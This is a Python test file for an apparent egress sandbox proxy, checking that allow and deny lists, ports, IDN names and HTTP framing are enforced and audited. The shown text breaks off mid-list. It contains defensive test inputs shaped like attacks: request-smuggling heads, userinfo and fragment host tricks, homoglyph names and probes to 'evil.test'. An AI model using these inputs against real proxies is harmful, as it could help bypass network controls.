"""Egress (issues 5 and 6): cordon's HTTP proxy and SOCKS5 listeners are the
sandbox's only way out, and they let through exactly what the policy allows.

Each test runs cordon as root and as uid 65534 (the `sb` fixture) inside the
egress lab (egress_lab.py): a network namespace of the test's own with an
HTTP/1.1 origin, an HTTPS origin, a TCP echo server and a DNS server, where
"allowed.test" and friends resolve to 198.51.100.10 (an ordinary address
served locally) and other names to loopback, metadata or private addresses.
Inside the sandbox a client (egress_probe.py) writes exact bytes to
127.0.0.1:3128 and 127.0.0.1:1080.

Every refusal is checked three ways: the answer (status, X-Proxy-Error,
body, SOCKS reply), the audit record (verdict, reason, rule, address), and
the servers' logs: the origin never accepted a connection or saw a request
for it, and the DNS server was never asked the denied name (egress-attacks.md
pass criterion). Cases are numbered as in egress-attacks.md (T4...T28).
"""
import json

import pytest

from egress_helpers import OWN4, PUBLIC4, Net, denied_body, get, header, raw_http, req_header

NOT_LISTED = "host is not on the allow list"
BAD_PORT = "port is not allowed for this host"
DENY_LIST = "host is on the deny list"


@pytest.fixture
def net(sb, egress_lab):
    return Net(sb, egress_lab)


# ---------------------------------------------------------------------------
# assertions

def find(recs, **kw):
    return [r for r in recs if all(r.get(k) == v for k, v in kw.items())]


def one(recs, **kw):
    got = find(recs, **kw)
    assert len(got) == 1, "expected one record with %r, got %r\nall: %s" % (
        kw, got, json.dumps(recs, indent=1))
    return got[0]


def refused_http(resp, host, port, tag, reason):
    """A plain-HTTP refusal: 403, X-Proxy-Error, the body naming host, port
    and reason, and the connection closed."""
    assert resp.get("status") == 403, resp
    assert header(resp, "X-Proxy-Error") == tag, resp
    assert resp["body"] == denied_body(host, port, reason), resp
    assert header(resp, "Connection") == "close", resp


def refused_connect(res, host, port, tag, reason):
    """A CONNECT refusal: the reason is the status phrase (as srt)."""
    assert res.get("line") == "HTTP/1.1 403 " + reason, res
    assert header(res, "X-Proxy-Error") == tag, res
    assert res["body"] == denied_body(host, port, reason), res


def deny_record(net, host, port, via, reason, rule=None, address=None):
    r = one(net.audit("net.connect"), host=host, port=port, via=via, verdict="deny")
    assert r["reason"] == reason, r
    assert r.get("rule") == rule, r
    assert r.get("address") == address, r
    return r


def nothing_reached(net, dns=True):
    assert net.origin() == [], "the origin saw: %r" % net.origin()
    assert net.echo() == [], "the echo server saw: %r" % net.echo()
    if dns:
        assert net.dns() == [], "the DNS server was asked: %r" % net.dns()


def ok(resp, body=None):
    assert resp.get("status") == 200, resp
    if body is not None:
        assert resp["body"] == body, resp
    return resp


# ---------------------------------------------------------------------------
# policy by name and port

def test_allowed_name_reaches_origin_and_every_record_is_written(net):
    s = net.settings(allow=["allowed.test"])
    [[resp]] = net.probe(s, [{"op": "http", "reqs": [get("http://allowed.test/x?y=1")]}])
    ok(resp, "hello from http GET /x?y=1\n")
    assert header(resp, "X-Origin") == "http"

    # The origin: one connection to the address the name resolved to, one
    # request in origin form with Host from the URI.
    acc = net.events(srv="http", ev="accept")
    assert [(a["local"], a["port"]) for a in acc] == [(PUBLIC4, 80)]
    [req] = net.requests()
    assert req["line"] == "GET /x?y=1 HTTP/1.1"
    assert req_header(req, "Host") == "allowed.test"
    assert set(net.dns()) <= {("allowed.test", "A"), ("allowed.test", "AAAA")}
    assert ("allowed.test", "A") in net.dns()

    recs = net.audit()
    assert [r["event"] for r in recs] == ["run.start", "net.connect", "net.request",
                                          "net.close", "run.exit"]
    c = recs[1]
    assert (c["verdict"], c["host"], c["port"], c["via"], c["address"], c["rule"]) == \
        ("allow", "allowed.test", 80, "http", PUBLIC4, "allowed.test")
    assert "reason" not in c
    q = recs[2]
    assert (q["verdict"], q["method"], q["host"], q["port"], q["path"], q["status"],
            q["rule"]) == ("allow", "GET", "allowed.test", 80, "/x?y=1", 200, "allowed.test")
    cl = recs[3]
    assert (cl["host"], cl["port"], cl["via"], cl["address"]) == \
        ("allowed.test", 80, "http", PUBLIC4)
    assert cl["bytes_up"] == 0 and cl["bytes_down"] >= len(resp["body"])
    assert recs[4]["status"] == 0


def test_unlisted_name_is_refused_by_http_connect_and_socks(net):
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [
        {"op": "http", "reqs": [get("http://evil.test/secret")], "check_close": True},
        {"op": "tunnel", "authority": "evil.test:443"},
        {"op": "socks", "atyp": 3, "host": "evil.test", "port": 443, "check_close": True},
    ])
    [resp] = res[0]
    refused_http(resp, "evil.test", 80, "blocked-by-allowlist", NOT_LISTED)
    assert resp["closed_after"] is True
    refused_connect(res[1], "evil.test", 443, "blocked-by-allowlist", NOT_LISTED)
    assert res[2]["rep"] == 2 and res[2]["closed_after"] is True, res[2]

    deny_record(net, "evil.test", 80, "http", NOT_LISTED)
    deny_record(net, "evil.test", 443, "connect", NOT_LISTED)
    deny_record(net, "evil.test", 443, "socks", NOT_LISTED)
    assert net.audit("net.request") == [] and net.audit("net.close") == []
    nothing_reached(net)


def test_denylist_wins_over_allowlist_with_its_custom_reason(net):
    s = net.settings(allow=["allowed.test", "*.allowed.test"], deny=["api.allowed.test"],
                     reasons={"api.allowed.test": "no API calls from agents"})
    res = net.probe(s, [
        {"op": "http", "reqs": [get("http://api.allowed.test/v1")]},
        {"op": "tunnel", "authority": "api.allowed.test:443"},
        {"op": "socks", "atyp": 3, "host": "api.allowed.test", "port": 80},
        {"op": "http", "reqs": [get("http://www.allowed.test/still-fine")]},
    ])
    why = "no API calls from agents"
    refused_http(res[0][0], "api.allowed.test", 80, "blocked-by-denylist", why)
    refused_connect(res[1], "api.allowed.test", 443, "blocked-by-denylist", why)
    assert res[2]["rep"] == 2
    ok(res[3][0], "hello from http GET /still-fine\n")
    for port, via in ((80, "http"), (443, "connect"), (80, "socks")):
        deny_record(net, "api.allowed.test", port, via, why, rule="api.allowed.test")
    assert [r["line"] for r in net.requests()] == ["GET /still-fine HTTP/1.1"]
    assert ("api.allowed.test", "A") not in net.dns()


def test_deny_all_entries(net):
    """deniedDomains "*" refuses everything, "*:443" only that port."""
    s = net.settings(allow=["allowed.test"], deny=["*"])
    [[r]] = net.probe(s, [{"op": "http", "reqs": [get("http://allowed.test/")]}])
    refused_http(r, "allowed.test", 80, "blocked-by-denylist", DENY_LIST)
    deny_record(net, "allowed.test", 80, "http", DENY_LIST, rule="*")
    nothing_reached(net)
    s = net.settings(allow=["allowed.test"], deny=["*:443"])
    res = net.probe(s, [{"op": "tunnel", "authority": "allowed.test:443"},
                        {"op": "http", "reqs": [get("http://allowed.test/port80")]}])
    refused_connect(res[0], "allowed.test", 443, "blocked-by-denylist", DENY_LIST)
    ok(res[1][0], "hello from http GET /port80\n")
    assert net.events(srv="https") == []


def test_audit_fd_carries_the_same_stream(net):
    import os
    s = net.settings(allow=["allowed.test"])
    path = net.sb.path("outside", "by-fd.jsonl")
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    try:
        p = net.lab.run(net.sb, "-s", s, "--audit-fd", str(fd), "--", "/bin/sh", "-c",
                        "curl -sS http://allowed.test/fd; curl -sS http://evil.test/",
                        pass_fds=(fd,))
    finally:
        os.close(fd)
    assert p.returncode == 0, p.stderr
    net.audit_path = path
    # (libc's refused unix-socket probes are recorded too: left out here)
    recs = [r for r in net.audit() if r["event"] != "syscall.deny"]
    assert [(r["event"], r["verdict"], r.get("host")) for r in recs] == [
        ("run.start", "allow", None), ("net.connect", "allow", "allowed.test"),
        ("net.request", "allow", "allowed.test"), ("net.close", "allow", "allowed.test"),
        ("net.connect", "deny", "evil.test"), ("run.exit", "allow", None)]


def test_network_only_settings_without_write_roots(net):
    """A settings file with only a network section (no allowWrite) is a
    normal egress policy."""
    s = net.settings(allow=["allowed.test"], write=False)
    p = net.sh(s, "curl -sS http://allowed.test/ro")
    assert p.returncode == 0 and p.stdout == "hello from http GET /ro\n", p.stderr


def test_deny_entry_without_port_covers_every_port(net):
    ep = net.ports["echo"]
    s = net.settings(allow=["allowed.test", "allowed.test:%d" % ep],
                     deny=["allowed.test"])
    res = net.probe(s, [{"op": "http", "reqs": [get("http://allowed.test/")]},
                        {"op": "tunnel", "authority": "allowed.test:%d" % ep, "send": "x"}])
    refused_http(res[0][0], "allowed.test", 80, "blocked-by-denylist", DENY_LIST)
    refused_connect(res[1], "allowed.test", ep, "blocked-by-denylist", DENY_LIST)
    deny_record(net, "allowed.test", ep, "connect", DENY_LIST, rule="allowed.test")
    nothing_reached(net)


def test_other_port_of_an_allowed_host_is_refused_before_dns_and_dial(net):
    """T8 and T28: allowed.test (ports 80 and 443) does not open port 22; a
    listener on 22 and the DNS server see nothing."""
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [
        {"op": "tunnel", "authority": "allowed.test:22", "send": "SSH-2.0-probe\r\n"},
        {"op": "http", "reqs": [get("http://allowed.test:8080/")]},
        {"op": "socks", "atyp": 3, "host": "allowed.test", "port": 22},
    ])
    refused_connect(res[0], "allowed.test", 22, "blocked-port", BAD_PORT)
    refused_http(res[1][0], "allowed.test", 8080, "blocked-port", BAD_PORT)
    assert res[2]["rep"] == 2
    deny_record(net, "allowed.test", 22, "connect", BAD_PORT)
    deny_record(net, "allowed.test", 8080, "http", BAD_PORT)
    deny_record(net, "allowed.test", 22, "socks", BAD_PORT)
    nothing_reached(net)


def test_entry_ports_and_default_ports(net):
    ep, hp = net.ports["echo"], net.ports["http_alt"]
    s = net.settings(allow=["allowed.test:%d" % ep, "www.allowed.test"], default_ports=[hp])
    res = net.probe(s, [
        {"op": "tunnel", "authority": "allowed.test:%d" % ep, "send": "ping"},
        {"op": "tunnel", "authority": "allowed.test:443"},
        {"op": "http", "reqs": [get("http://www.allowed.test:%d/dp" % hp)]},
        {"op": "http", "reqs": [get("http://www.allowed.test/")]},
    ])
    assert res[0]["status"] == 200 and res[0]["data"] == "ping", res[0]
    refused_connect(res[1], "allowed.test", 443, "blocked-port", BAD_PORT)
    ok(res[2][0], "hello from http GET /dp\n")
    refused_http(res[3][0], "www.allowed.test", 80, "blocked-port", BAD_PORT)
    assert [(e["port"], e["first"]) for e in net.echo() if e["ev"] == "eof"] == [(ep, "ping")]
    assert [(r["port"], r["line"]) for r in net.requests()] == [(hp, "GET /dp HTTP/1.1")]
    assert req_header(net.requests()[0], "Host") == "www.allowed.test:%d" % hp


def test_allow_domain_and_deny_domain_flags(net):
    s = net.settings()  # only the lab's resolver
    opts = ["--allow-domain", "allowed.test", "--allow-domain", "*.allowed.test",
            "--deny-domain", "api.allowed.test"]
    res = net.probe(s, [{"op": "http", "reqs": [get("http://allowed.test/flag")]},
                        {"op": "http", "reqs": [get("http://www.allowed.test/flag")]},
                        {"op": "http", "reqs": [get("http://api.allowed.test/flag")]},
                        {"op": "http", "reqs": [get("http://evil.test/flag")]}], opts=opts)
    ok(res[0][0])
    ok(res[1][0])
    refused_http(res[2][0], "api.allowed.test", 80, "blocked-by-denylist", DENY_LIST)
    refused_http(res[3][0], "evil.test", 80, "blocked-by-allowlist", NOT_LISTED)
    assert one(net.audit("net.connect"), host="www.allowed.test")["rule"] == "*.allowed.test"
    deny_record(net, "api.allowed.test", 80, "http", DENY_LIST, rule="api.allowed.test")
    assert sorted(req_header(r, "Host") for r in net.requests()) == \
        ["allowed.test", "www.allowed.test"]
    assert not {n for n, _ in net.dns()} & {"api.allowed.test", "evil.test"}


def test_wildcard_matches_strict_subdomains_at_a_label_boundary(net):
    """T9: *.allowed.test is not evilallowed.test, not allowed.test.evil.test
    and not the apex; names are compared lower-cased without the trailing
    dot."""
    s = net.settings(allow=["*.allowed.test"])
    res = net.probe(s, [
        {"op": "http", "reqs": [get("http://evilallowed.test/")]},
        {"op": "http", "reqs": [get("http://allowed.test.evil.test/")]},
        {"op": "http", "reqs": [get("http://allowed.test/")]},
        {"op": "tunnel", "authority": "evilallowed.test:443"},
        {"op": "http", "reqs": [get("http://WWW.ALLOWED.TEST/upper"),
                                get("http://www.allowed.test./dot")]},
    ])
    refused_http(res[0][0], "evilallowed.test", 80, "blocked-by-allowlist", NOT_LISTED)
    refused_http(res[1][0], "allowed.test.evil.test", 80, "blocked-by-allowlist", NOT_LISTED)
    refused_http(res[2][0], "allowed.test", 80, "blocked-by-allowlist", NOT_LISTED)
    refused_connect(res[3], "evilallowed.test", 443, "blocked-by-allowlist", NOT_LISTED)
    ok(res[4][0], "hello from http GET /upper\n")
    ok(res[4][1], "hello from http GET /dot\n")
    assert [req_header(r, "Host") for r in net.requests()] == ["www.allowed.test"] * 2
    assert {n for n, _ in net.dns()} == {"www.allowed.test"}
    assert [r["host"] for r in net.audit("net.request")] == ["www.allowed.test"] * 2


def test_apex_entry_matches_case_and_trailing_dot(net):
    """T9/T15: ALLOWED.TEST and allowed.test. are allowed.test; a trailing
    dot in a CONNECT target or a Host field is canonicalised, not a new
    name."""
    s = net.settings(allow=["allowed.test"])
    net.put("ca.pem", net.lab.ca_pem)
    res = net.probe(s, [
        {"op": "http", "reqs": [get("http://ALLOWED.TEST/a"), get("http://allowed.test./b"),
                                get("http://allowed.test/c", host="allowed.test.:443"),
                                get("http://allowed.test/d", host="ALLOWED.test")]},
        {"op": "tunnel", "authority": "ALLOWED.test.:443",
         "tls": {"sni": "allowed.test", "cafile": "ca.pem", "path": "/t15"}},
        {"op": "http", "reqs": [get("http://www.allowed.test/")]},
    ])
    for r, p in zip(res[0], "abcd"):
        ok(r, "hello from http GET /%s\n" % p)
    assert res[1]["status"] == 200 and res[1]["response"]["status"] == 200, res[1]
    refused_http(res[2][0], "www.allowed.test", 80, "blocked-by-allowlist", NOT_LISTED)
    assert [req_header(r, "Host") for r in net.requests("http")] == ["allowed.test"] * 4
    t = one(net.audit("net.connect"), via="connect")
    assert (t["host"], t["port"], t["verdict"]) == ("allowed.test", 443, "allow")
    assert {n for n, _ in net.dns()} == {"allowed.test"}


def test_idn_homoglyph_and_punycode(net):
    """T10: the Cyrillic 'а' (U+0430) makes another name; clients must send
    A-labels (non-ASCII in a request-target is refused), and entries written
    in Unicode are converted to A-labels (UTS #46) before matching."""
    ep = net.ports["echo"]
    cyr = "\u0430llowed.test"
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [
        {"op": "tunnel", "raw": ("CONNECT %s:443 HTTP/1.1\r\nHost: x\r\n\r\n" % cyr)
         .encode().decode("latin-1")},
        {"op": "tunnel", "authority": "xn--llowed-2nf.test:443"},
        {"op": "tunnel", "authority": "XN--LLOWED-2NF.TEST:443"},
        {"op": "socks", "atyp": 3, "host": "xn--llowed-2nf.test", "port": 443},
    ])
    assert res[0]["status"] == 400, res[0]
    assert res[0]["body"] == ("cordon: control, space or non-ASCII byte in request-target "
                              "(RFC 9112 3.2)\n")
    refused_connect(res[1], "xn--llowed-2nf.test", 443, "blocked-by-allowlist", NOT_LISTED)
    refused_connect(res[2], "xn--llowed-2nf.test", 443, "blocked-by-allowlist", NOT_LISTED)
    assert res[3]["rep"] == 2
    assert len(find(net.audit("net.connect"), host="xn--llowed-2nf.test", verdict="deny")) == 3
    nothing_reached(net)

    # Entries in Unicode: the homoglyph entry is its A-label; the full-width
    # dot (U+3002) is a dot.
    net.reset()
    s = net.settings(allow=[cyr + ":%d" % ep, "allowed\u3002test"])
    res = net.probe(s, [
        {"op": "tunnel", "authority": "XN--LLOWED-2NF.test:%d" % ep, "send": "idn"},
        {"op": "http", "reqs": [get("http://allowed.test/fw")]},
    ])
    assert res[0]["status"] == 200 and res[0]["data"] == "idn", res[0]
    ok(res[1][0], "hello from http GET /fw\n")
    c = one(net.audit("net.connect"), via="connect")
    assert (c["host"], c["rule"]) == ("xn--llowed-2nf.test", cyr + ":%d" % ep)
    assert one(net.audit("net.connect"), via="http")["rule"] == "allowed\u3002test"
    assert ("xn--llowed-2nf.test", "A") in net.dns()


def test_idn_non_ascii_socks_name_is_refused_and_never_resolved(net):
    """T10 over SOCKS5 (ATYP 3): a non-ASCII name is refused before any
    decision; it is never resolved nor dialled."""
    s = net.settings(allow=["allowed.test", "*.allowed.test"])
    res = net.probe(s, [{"op": "socks", "atyp": 3, "host": "\u0430llowed.test", "port": 80},
                        {"op": "socks", "atyp": 3, "host": "www.\u0430llowed.test", "port": 80}])
    assert [r["rep"] for r in res] in ([1, 1], [2, 2]), res
    nothing_reached(net)


def test_idn_socks_refusal_is_audited(net):
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [{"op": "socks", "atyp": 3, "host": "\u0430llowed.test", "port": 80}])
    assert res[0]["rep"] != 0
    recs = net.audit("net.connect")
    assert len(recs) == 1 and recs[0]["verdict"] == "deny" and recs[0]["via"] == "socks", recs


def test_idn_full_width_dot_over_socks_is_canonicalised(net):
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [{"op": "socks", "atyp": 3, "host": "allowed\u3002test", "port": 80,
                         "send": "GET /fw HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
                         "read": "http"}])
    assert res[0]["rep"] == 0, res
    ok(res[0]["response"], "hello from http GET /fw\n")


# ---------------------------------------------------------------------------
# plain HTTP: framing, keep-alive, large bodies

def test_keep_alive_several_requests_on_one_upstream_connection(net):
    s = net.settings(allow=["allowed.test"])
    [res] = net.probe(s, [{"op": "http", "reqs": [
        get("http://allowed.test/1"), get("http://allowed.test/2"),
        get("http://allowed.test/3")]}])
    for i, r in enumerate(res, 1):
        ok(r, "hello from http GET /%d\n" % i)
    assert len(net.events(srv="http", ev="accept")) == 1
    assert [r["line"] for r in net.requests()] == ["GET /%d HTTP/1.1" % i for i in (1, 2, 3)]
    assert [r["path"] for r in net.audit("net.request")] == ["/1", "/2", "/3"]
    assert len(net.audit("net.connect")) == 3
    assert len(net.audit("net.close")) == 1


def test_keep_alive_records_keep_the_address(net):
    s = net.settings(allow=["allowed.test"])
    net.probe(s, [{"op": "http", "reqs": [get("http://allowed.test/1"),
                                          get("http://allowed.test/2")]}])
    assert [r.get("address") for r in net.audit("net.connect")] == [PUBLIC4, PUBLIC4]
    assert net.audit("net.close")[0].get("address") == PUBLIC4


def test_pipelined_requests_are_answered_in_order(net):
    s = net.settings(allow=["allowed.test"])
    [res] = net.probe(s, [{"op": "http", "mode": "pipeline", "reqs": [
        get("http://allowed.test/a"),
        get("http://allowed.test/size/5000", method="HEAD"),
        get("http://allowed.test/size/3000"),
        get("http://allowed.test/echo", method="POST", body_gen=100000, chunked=True,
            chunk=777),
        get("http://allowed.test/z")]}])
    ok(res[0], "hello from http GET /a\n")
    assert res[1]["status"] == 200 and res[1]["body_len"] == 0
    assert header(res[1], "Content-Length") == "5000"
    assert res[2]["body_len"] == 3000
    assert res[2]["body_sha256"] == header(res[2], "X-Body-Sha256")
    echo = json.loads(res[3]["body"])
    assert echo["len"] == 100000 and echo["te"] == "chunked"
    ok(res[4], "hello from http GET /z\n")
    assert [r["line"].split()[1] for r in net.requests()] == \
        ["/a", "/size/5000", "/size/3000", "/echo", "/z"]
    assert len(net.events(srv="http", ev="accept")) == 1


def test_chunked_request_body_is_forwarded_exactly(net):
    from egress_lab import det_bytes, sha256
    s = net.settings(allow=["allowed.test"])
    sizes = [(1, 1), (70000, 1), (300000, 4093), (1 << 20, 65536)]
    [res] = net.probe(s, [{"op": "http", "reqs": [
        get("http://allowed.test/echo", method="POST", body_gen=n, chunked=True, chunk=c)
        for n, c in sizes]}])
    bodies = net.events(srv="http", ev="body")
    for (n, _), r, b in zip(sizes, res, bodies):
        e = json.loads(ok(r)["body"])
        assert (e["len"], e["sha256"], e["te"]) == (n, sha256(det_bytes(n)), "chunked")
        assert (b["framing"], b["len"], b["sha256"]) == ("chunked", n, sha256(det_bytes(n)))
    assert len(bodies) == len(sizes)


def test_head_and_expect_100_continue(net):
    from egress_lab import det_bytes, sha256
    s = net.settings(allow=["allowed.test"])
    [res] = net.probe(s, [{"op": "http", "reqs": [
        get("http://allowed.test/size/70000", method="HEAD"),
        get("http://allowed.test/echo", method="POST", body_gen=200000, expect100=True),
        get("http://allowed.test/after")]}])
    assert res[0]["status"] == 200 and res[0]["body_len"] == 0
    assert header(res[0], "Content-Length") == "70000"
    assert res[1]["interim"] == [100], res[1]
    e = json.loads(ok(res[1])["body"])
    assert (e["len"], e["sha256"]) == (200000, sha256(det_bytes(200000)))
    ok(res[2], "hello from http GET /after\n")
    [r1, r2, r3] = net.requests()
    assert r1["line"] == "HEAD /size/70000 HTTP/1.1"
    assert req_header(r2, "Expect") == "100-continue"
    assert [(r["method"], r["status"]) for r in net.audit("net.request")] == \
        [("HEAD", 200), ("POST", 200), ("GET", 200)]


def test_large_bodies_in_both_directions(net):
    from egress_lab import det_bytes, sha256
    mib = 1 << 20
    s = net.settings(allow=["allowed.test"])
    [res] = net.probe(s, [{"op": "http", "reqs": [
        get("http://allowed.test/size/%d" % (8 * mib)),
        get("http://allowed.test/chunked/%d" % (5 * mib)),
        get("http://allowed.test/echo", method="POST", body_gen=6 * mib),
        get("http://allowed.test/echo", method="POST", body_gen=3 * mib, chunked=True,
            chunk=100000),
        get("http://allowed.test/x")]}])
    for r, n in zip(res[:2], (8 * mib, 5 * mib)):
        assert ok(r)["body_len"] == n
        assert r["body_sha256"] == header(r, "X-Body-Sha256") == sha256(det_bytes(n))
    for r, n in zip(res[2:4], (6 * mib, 3 * mib)):
        e = json.loads(ok(r)["body"])
        assert (e["len"], e["sha256"]) == (n, sha256(det_bytes(n)))
    ok(res[4])
    close = net.audit("net.close")
    assert len(close) == 1
    assert close[0]["bytes_up"] >= 9 * mib and close[0]["bytes_down"] >= 13 * mib, close


def test_response_framing_from_the_origin(net):
    """A body that ends at close, a 204 on a kept-alive connection, an
    origin that closes, and a malformed response head (502, never relayed)."""
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [
        {"op": "http", "check_close": True, "reqs": [get("http://allowed.test/eof")]},
        {"op": "http", "reqs": [get("http://allowed.test/204"), get("http://allowed.test/2")]},
        {"op": "http", "check_close": True, "reqs": [get("http://allowed.test/bye")]},
        {"op": "http", "check_close": True, "reqs": [get("http://allowed.test/bad-response")]},
    ])
    r = ok(res[0][0], "until-close\n")
    assert r["closed_after"] is True and header(r, "Content-Length") is None
    assert res[1][0]["status"] == 204 and res[1][0]["body_len"] == 0
    ok(res[1][1], "hello from http GET /2\n")
    r = ok(res[2][0], "bye\n")
    assert header(r, "Connection") == "close" and r["closed_after"] is True
    r = res[3][0]
    assert r["status"] == 502 and header(r, "X-Proxy-Error") == "bad-response", r
    assert r["body"] == "cordon: allowed.test:80: bare LF line ending (RFC 9112 2.2: " \
                        "CRLF only)\n"
    assert r["closed_after"] is True
    q = one(net.audit("net.request"), path="/bad-response")
    assert (q["status"], q["verdict"]) == (502, "allow")
    assert [(x["path"], x["status"]) for x in net.audit("net.request")] == [
        ("/eof", 200), ("/204", 204), ("/2", 200), ("/bye", 200), ("/bad-response", 502)]


def test_request_body_ends_at_content_length(net):
    """Bytes after a Content-Length body are the next request, parsed (and
    here refused) on their own: never appended to the forwarded body."""
    s = net.settings(allow=["allowed.test"])
    [[r]] = net.probe(s, [{"op": "http", "mode": "raw", "reqs": [{"raw": (
        "POST http://allowed.test/echo HTTP/1.1\r\nHost: allowed.test\r\n"
        "Content-Length: 5\r\n\r\nhelloGET /v1/files HTTP/1.1\r\nHost: allowed.test\r\n\r\n")}]}])
    first, _, second = r["raw"].partition("HTTP/1.1 400 Bad Request\r\n")
    assert first.startswith("HTTP/1.1 200 OK\r\n")
    assert json.loads(first.split("\r\n\r\n", 1)[1])["len"] == 5
    assert "X-Proxy-Error: bad-request" in second
    assert second.endswith("cordon: not a proxy request (use an absolute URI or CONNECT)\n")
    assert [e["len"] for e in net.events(srv="http", ev="body")] == [5]
    assert [x["line"] for x in net.requests()] == ["POST /echo HTTP/1.1"]


def test_oversized_head_is_431(net):
    s = net.settings(allow=["allowed.test"])
    [[r]] = net.probe(s, [{"op": "http", "mode": "raw", "reqs": [{"raw": (
        "GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX-Big: " + "a" * 70000 +
        "\r\n\r\n")}]}])
    assert r["status"] == 431 and header(r, "X-Proxy-Error") == "bad-request", r
    assert r["body"] == "cordon: message head larger than 64 KiB\n"
    nothing_reached(net)


def test_absolute_uri_decides_and_host_is_rewritten(net):
    """T13: the authority of the URI is what is judged and dialled; the Host
    field sent on is rewritten from it."""
    s = net.settings(allow=["allowed.test"])
    res = net.probe(s, [
        {"op": "http", "reqs": [get("http://evil.test/host", host="allowed.test")]},
        {"op": "http", "reqs": [get("http://allowed.test/host", host="evil.test")]},
    ])
    refused_http(res[0][0], "evil.test", 80, "blocked-by-allowlist", NOT_LISTED)
    ok(res[1][0], "allowed.test")
    [req] = net.requests()
    assert [v for k, v in req["headers"] if k.lower() == "host"] == ["allowed.test"]
    assert "evil.test" not in json.dumps(req)
    assert "evil.test" not in [n for n, _ in net.dns()]


def test_hop_by_hop_fields_are_not_forwarded(net):
    s = net.settings(allow=["allowed.test"])
    [[resp]] = net.probe(s, [{"op": "http", "reqs": [get("http://allowed.test/h", headers=[
        ["Proxy-Connection", "keep-alive"], ["Proxy-Authorization", "Basic eDp5"],
        ["Connection", "X-Drop-Me"], ["X-Drop-Me", "1"], ["TE", "trailers"],
        ["Keep-Alive", "timeout=5"], ["X-Keep", "kept"]])]}])
    ok(resp)
    [req] = net.requests()
    names = [k.lower() for k, _ in req["headers"]]
    assert names == ["host", "x-keep", "connection"], req["headers"]
    assert req_header(req, "Connection") == "keep-alive"


def test_one_client_connection_to_several_destinations(net):
    """A new destination on a kept-alive client connection gets its own
    decision and upstream; a refused one ends the connection."""
    s = net.settings(allow=["allowed.test", "www.allowed.test"])
    [res] = net.probe(s, [{"op": "http", "check_close": True, "reqs": [
        get("http://allowed.test/1"), get("http://www.allowed.test/2"),
        get("http://evil.test/3")]}])
    ok(res[0])
    ok(res[1])
    refused_http(res[2], "evil.test", 80, "blocked-by-allowlist", NOT_LISTED)
    assert res[2]["closed_after"] is True
    assert [req_header(r, "Host") for r in net.requests()] == ["allowed.test",
                                                               "www.allowed.test"]
    assert len(net.events(srv="http", ev="accept")) == 2
    assert [r["host"] for r in net.audit("net.close")] == ["allowed.test", "www.allowed.test"]
    deny_record(net, "evil.test", 80, "http", NOT_LISTED)


# T12, T14, T15: each head on its own connection; the answer and the start of
# the reason. allowed.test is allowed, so a head that got past the parser
# would show up as a DNS query and a request at the origin.
A = "http://allowed.test"
MALFORMED = [
    ("obs-fold", "GET %s/ HTTP/1.1\r\nHost: allowed.test\r\nX-A: a\r\n b\r\n\r\n" % A,
     400, "obs-fold or leading whitespace in a field line"),
    ("TE obs-fold", "POST %s/echo HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding:\r\n"
     " chunked\r\n\r\n0\r\n\r\n" % A, 400, "obs-fold or leading whitespace in a field line"),
    ("CL+TE", "POST %s/echo HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 44\r\n"
     "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST /v1/files HTTP/1.1\r\nHost: a\r\n\r\n" % A,
     400, "both Content-Length and Transfer-Encoding"),
    ("TE+CL", "POST %s/echo HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n"
     "Content-Length: 3\r\n\r\n0\r\n\r\n" % A, 400, "both Content-Length and Transfer-Encoding"),
    ("duplicate CL", "POST %s/echo HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\n"
     "Content-Length: 4\r\n\r\nabcd" % A, 400, "more than one Content-Length field"),
    ("CL list", "POST %s/echo HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4, 4\r\n\r\n"
     "abcd" % A, 400, "malformed Content-Length"),
    ("bare LF", "GET %s/ HTTP/1.1\nHost: allowed.test\n\n" % A, 400, "bare LF line ending"),
    ("space before colon", "POST %s/echo HTTP/1.1\r\nHost: allowed.test\r\n"
     "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n" % A, 400,
     "whitespace between field name and colon"),
    ("TE xchunked", "POST %s/echo HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: "
     "xchunked\r\n\r\n0\r\n\r\n" % A, 501, "Transfer-Encoding other than a lone \"chunked\""),
    ("TE chunked, identity", "POST %s/echo HTTP/1.1\r\nHost: allowed.test\r\n"
     "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" % A, 501,
     "Transfer-Encoding other than a lone \"chunked\""),
    ("TE in HTTP/1.0", "POST %s/echo HTTP/1.0\r\nHost: allowed.test\r\nTransfer-Encoding: "
     "chunked\r\n\r\n0\r\n\r\n" % A, 400, "Transfer-Encoding in an HTTP/1.0 request"),
    ("two Host fields", "GET %s/ HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n" % A,
     400, "more than one Host field"),
    ("no Host", "GET %s/ HTTP/1.1\r\n\r\n" % A, 400, "HTTP/1.1 request without Host"),
    ("userinfo", "GET http://allowed.test@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
     400, "request-target authority: userinfo ('@') refused"),
    ("userinfo with port", "GET http://allowed.test:80@evil.test/ HTTP/1.1\r\n"
     "Host: evil.test\r\n\r\n", 400, "request-target authority: userinfo ('@') refused"),
    ("userinfo in Host", "GET %s/ HTTP/1.1\r\nHost: evil.test@allowed.test\r\n\r\n" % A,
     400, "Host field: userinfo ('@') refused"),
    ("fragment", "GET http://evil.test#@allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
     400, "fragment ('#') in request-target"),
    ("port 0080", "GET http://allowed.test:0080/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
     400, "request-target authority: invalid port"),
    ("Host port 0443", "GET %s/ HTTP/1.1\r\nHost: allowed.test:0443\r\n\r\n" % A,
     400, "Host field: invalid port"),
